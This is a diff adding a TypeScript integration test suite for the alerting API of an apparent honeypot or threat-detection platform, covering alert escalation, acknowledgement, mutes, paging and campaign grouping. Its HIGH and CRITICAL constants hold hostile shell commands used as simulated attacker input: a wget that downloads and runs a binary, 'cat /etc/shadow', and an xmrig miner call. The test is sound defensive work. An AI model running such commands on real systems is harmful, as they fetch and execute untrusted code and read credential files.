@@ -1,0 +1,187 @@
+import type { Alert, AlertDetail, AlertPolicyState, Page } from '@eviltwin/contract'
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
+import { openFeed } from '../../testing/test-feed.js'
+import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
+import { until } from '../../testing/until.js'
+
+const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'
+const CRITICAL = `${HIGH}; crontab -l; cat /etc/shadow; xmrig`
+
+describe.each(inject('postgresServers'))('alerts on $version', (server) => {
+  let api: TestPlatform
+  let token: string
+  let next = 0
+  beforeAll(async () => {
+    api = await startTestPlatform(server)
+    token = await api.login()
+  })
+  afterAll(() => api.close())
+
+  const send = (event: object) =>
+    api.send(JSON.stringify({ occurred_at: new Date().toISOString(), ...event }))
+  const get = async <Answer>(path: string) => (await (await api.call(path, { as: token })).json()) as Answer
+  const change = (path: string, method: string, body: unknown) =>
+    api.call(path, { method, as: token, body: JSON.stringify(body) })
+  /** A source that no other test uses. */
+  const newSource = () => {
+    next += 1
+    return `203.0.113.${next}`
+  }
+  const attack = (source_ip: string, command = HIGH, session = 's') => send({ source_ip, session, command })
+  const alertsOf = async (source_ip: string, count = 1, more = '') =>
+    until(async () => {
+      const { items } = await get<Page<Alert>>(`/alerts?src_ip=${source_ip}${more}`)
+      return items.length >= count && items
+    })
+
+  test('a session that crosses to high raises one alert, and one more when it crosses to critical', async () => {
+    const source = newSource()
+    await send({ source_ip: source, session: 's', username: 'root', password: 'x' })
+    await attack(source)
+    const [alert] = await alertsOf(source)
+    expect(alert).toMatchObject({
+      kind: 'session',
+      threat_level: 'high',
+      source_ip: source,
+      state: 'open',
+      occurrence_count: 1,
+      first_of_attacker: true,
+      suppressed_by: null,
+    })
+    expect(alert?.reasons.map(({ name }) => name)).toContain('download_command')
+    await attack(source, CRITICAL)
+    const alerts = await alertsOf(source, 2)
+    expect(alerts.map(({ threat_level }) => threat_level)).toEqual(['critical', 'high'])
+    const logged = await until(() => {
+      const lines = api.logged.filter(
+        ({ message, source_ip }) => message === 'Alert queued' && source_ip === source,
+      )
+      return lines.length === 2 && lines
+    })
+    expect(logged[0]).toMatchObject({
+      level: 'INFO',
+      logger: 'backend.services.alert_manager',
+      session_id: alert?.session_id,
+      threat_level: 'high',
+    })
+  })
+
+  test('a low session raises none', async () => {
+    const [quiet, loud] = [newSource(), newSource()]
+    await send({ source_ip: quiet, session: 's', username: 'root', password: 'x' })
+    await attack(loud)
+    await alertsOf(loud)
+    expect((await get<Page<Alert>>(`/alerts?src_ip=${quiet}`)).items).toEqual([])
+  })
+
+  test('an alert is acknowledged, assigned, commented and resolved, and remembers who did what', async () => {
+    const source = newSource()
+    await attack(source)
+    const [{ id } = { id: '' }] = await alertsOf(source)
+    const path = `/alerts/${id}`
+    expect((await change(path, 'PATCH', { state: 'acknowledged', comment: 'looking' })).status).toBe(200)
+    expect((await change(path, 'PATCH', { assignee: 'ADMIN' })).status).toBe(200)
+    expect((await change(path, 'PATCH', { state: 'resolved' })).status).toBe(200)
+    const alert = await get<AlertDetail>(path)
+    expect(alert).toMatchObject({ state: 'resolved', assignee: 'admin' })
+    expect(alert.history.map(({ actor, action, detail }) => [actor, action, detail])).toEqual([
+      [null, 'raised', null],
+      ['admin', 'acknowledged', null],
+      ['admin', 'commented', 'looking'],
+      ['admin', 'assigned', 'admin'],
+      ['admin', 'resolved', null],
+    ])
+    expect((await change(path, 'PATCH', { state: 'resolved' })).status).toBe(200)
+    expect((await get<AlertDetail>(path)).history).toHaveLength(5)
+  })
+
+  test('a change that makes no sense is refused', async () => {
+    const source = newSource()
+    await attack(source)
+    const [{ id } = { id: '' }] = await alertsOf(source)
+    expect((await change(`/alerts/${id}`, 'PATCH', {})).status).toBe(422)
+    expect((await change(`/alerts/${id}`, 'PATCH', { assignee: 'nobody-of-that-name' })).status).toBe(422)
+    expect((await change(`/alerts/${id}`, 'PATCH', { state: 'gone' })).status).toBe(422)
+    expect(
+      (await change('/alerts/00000000-0000-4000-8000-000000000000', 'PATCH', { state: 'open' })).status,
+    ).toBe(404)
+  })
+
+  test('many alerts are acknowledged at once', async () => {
+    const sources = [newSource(), newSource()]
+    for (const source of sources) await attack(source)
+    const ids = (await Promise.all(sources.map((source) => alertsOf(source)))).flat().map(({ id }) => id)
+    const unknown = '00000000-0000-4000-8000-000000000000'
+    const response = await change('/alerts/acknowledge', 'POST', { ids: [...ids, unknown] })
+    expect(await response.json()).toEqual({ acknowledged: 2, unchanged: 0, unknown: [unknown] })
+    const again = await change('/alerts/acknowledge', 'POST', { ids })
+    expect(await again.json()).toEqual({ acknowledged: 0, unchanged: 2, unknown: [] })
+    const { items } = await get<Page<Alert>>(`/alerts?state=acknowledged&src_ip=${sources[0]}`)
+    expect(items.map(({ state }) => state)).toEqual(['acknowledged'])
+  })
+
+  test('the list is filtered and paged', async () => {
+    const network = '198.51.100.0/24'
+    for (const host of [1, 2, 3]) await attack(`198.51.100.${host}`)
+    await alertsOf(network, 3)
+    const first = await get<Page<Alert>>(`/alerts?src_ip=${network}&limit=2&count=true`)
+    expect(first).toMatchObject({ total: 3 })
+    const second = await get<Page<Alert>>(`/alerts?src_ip=${network}&limit=2&cursor=${first.next_cursor}`)
+    expect([...first.items, ...second.items].map(({ source_ip }) => source_ip)).toEqual([
+      '198.51.100.3',
+      '198.51.100.2',
+      '198.51.100.1',
+    ])
+    expect(second.next_cursor).toBeNull()
+    expect((await get<Page<Alert>>(`/alerts?src_ip=${network}&threat_level=critical`)).items).toEqual([])
+    expect((await api.call('/alerts?src_ip=nonsense', { as: token })).status).toBe(422)
+  })
+
+  test('a mute keeps a source quiet, with its reason, until it is ended; what it kept quiet is counted', async () => {
+    const source = newSource()
+    const refused = await change('/alerts/mutes', 'POST', {
+      source,
+      reason: 'our own scanner',
+      expires_at: '2020-01-01T00:00:00Z',
+    })
+    expect(refused.status).toBe(422)
+    const mute = await change('/alerts/mutes', 'POST', { source, reason: 'our own scanner' })
+    expect(mute.status).toBe(201)
+    const { id } = (await mute.json()) as { id: string }
+    await attack(source)
+    const [quiet] = await alertsOf(source, 1, '&suppressed=true')
+    expect(quiet).toMatchObject({
+      suppressed_by: 'mute',
+      suppressed_because: 'our own scanner (admin)',
+    })
+    const { suppressed_24h, mutes } = await get<AlertPolicyState>('/alerts/policy')
+    expect(suppressed_24h.mute).toBeGreaterThan(0)
+    expect(mutes.map((each) => each.id)).toContain(id)
+    expect((await api.call(`/alerts/mutes/${id}`, { method: 'DELETE', as: token })).status).toBe(204)
+    await attack(source, HIGH, 'another session')
+    expect(await alertsOf(source)).toMatchObject([{ suppressed_by: null }])
+  })
+
+  test('one alert stands for a campaign, and counts what it stands for', async () => {
+    const policy = (await get<AlertPolicyState>('/alerts/policy')).policy
+    await change('/alerts/policy', 'PUT', { ...policy, campaign_grouping: 'source' })
+    const source = newSource()
+    for (const session of ['a', 'b', 'c']) await attack(source, HIGH, session)
+    const quiet = await alertsOf(source, 2, '&suppressed=true')
+    const [alert] = await alertsOf(source)
+    expect(alert).toMatchObject({ occurrence_count: 3 })
+    expect(quiet.map(({ campaign_alert_id }) => campaign_alert_id)).toEqual([alert?.id, alert?.id])
+    await change('/alerts/policy', 'PUT', policy)
+  })
+
+  test('an alert outlives the process that raised it', async () => {
+    const source = newSource()
+    await attack(source)
+    const [alert] = await alertsOf(source)
+    const replica = await startTestPlatform(server, { beside: api })
+    const feed = await openFeed(replica, await replica.login(), '0')
+    await until(() => feed.alerts().find(({ id }) => id === alert?.id))
+    await feed.close()
+    await replica.close()
+  })
+})
